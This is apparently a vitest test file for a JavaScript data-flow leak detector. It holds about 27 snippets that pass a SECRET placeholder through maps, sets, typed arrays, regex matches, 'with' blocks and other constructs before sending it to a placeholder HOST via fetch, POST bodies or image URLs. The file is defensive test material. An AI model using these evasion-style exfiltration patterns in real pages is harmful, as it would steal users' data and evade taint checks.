import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	["a map", `const kept = new Map(); kept.set("jar", SECRET); kept.forEach((text) => fetch("HOST/" + text));`],
	[
		"a weak map",
		`const kept = new WeakMap(); kept.set(document.body, SECRET); fetch("HOST/" + kept.get(document.body));`,
	],
	["a set", `const kept = new Set(); kept.add(SECRET); for (const text of kept) fetch("HOST/" + text);`],
	[
		"one character at a time",
		`const text = SECRET; for (let at = 0; at < text.length; at++) new Image().src = "HOST/" + at + "/" + text.charCodeAt(at);`,
	],
	[
		"a sum over its characters",
		`let sum = 0; for (const sign of SECRET) sum = sum * 31 + sign.codePointAt(0); fetch("HOST/" + sum);`,
	],
	["with", `with ({ text: SECRET }) { fetch("HOST/" + text); }`],
	[
		"a label and a loop",
		`outer: for (const text of [1, SECRET]) { if (text === 1) continue outer; fetch("HOST/" + text); }`,
	],
	["a conditional and a comma", `const text = Math.random() > 0.5 ? (0, SECRET) : ""; fetch("HOST/" + text);`],
	["logical assignment", `let text; text ??= SECRET; fetch("HOST/" + text);`],
	["bytes", `const bytes = new TextEncoder().encode(SECRET); fetch("HOST", { method: "POST", body: bytes });`],
	["a blob", `fetch("HOST", { method: "POST", body: new Blob([SECRET]) });`],
	["a regular expression's match", 'const found = /id=(\\w+)/.exec(SECRET); fetch("HOST/" + found[1]);'],
	[
		"split, filter, map",
		`const text = SECRET.split(";").filter((part) => part.includes("id")).map((part) => part.trim()).join(); fetch("HOST/" + text);`,
	],
	["an optional chain", `fetch?.("HOST/" + (SECRET)?.slice?.(1));`],
	["object entries", `for (const [name, text] of Object.entries({ jar: SECRET })) fetch("HOST/" + name + text);`],
	[
		"Object.assign and freeze",
		`const bag = Object.freeze(Object.assign({}, { text: SECRET })); fetch("HOST/" + bag.text);`,
	],
	["Object.fromEntries", `const bag = Object.fromEntries([["text", SECRET]]); fetch("HOST/" + bag.text);`],
	["structuredClone", `fetch("HOST/" + structuredClone({ text: SECRET }).text);`],
	[
		"a switch",
		`function pick(name) { switch (name) { case "jar": return SECRET; default: return ""; } } fetch("HOST/" + pick("jar"));`,
	],
	["sort and reverse and flat", `fetch("HOST/" + [[SECRET], ["a"]].flat().sort().reverse().at(0));`],
	[
		"delete and in",
		`const bag = { text: SECRET, gone: 1 }; delete bag.gone; if ("text" in bag) fetch("HOST/" + bag.text);`,
	],
	["a number made of it", `fetch("HOST/" + (parseInt(SECRET, 10) | 0));`],
	[
		"a typed array",
		`const bytes = new Uint8Array(4); bytes[0] = SECRET.charCodeAt(0); fetch("HOST", { method: "POST", body: bytes });`,
	],
	["do while", `let text = ""; do { text += SECRET; } while (text.length < 3); fetch("HOST/" + text);`],
	["for in", `const bag = { jar: SECRET }; for (const name in bag) fetch("HOST/" + bag[name]);`],
	["Array.from", `fetch("HOST/" + Array.from({ length: 1 }, () => SECRET));`],
	["reduceRight and concat", `fetch("HOST/".concat(["a", SECRET].reduceRight((made, part) => made + part)));`],
];

describe("data through values and statements", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});
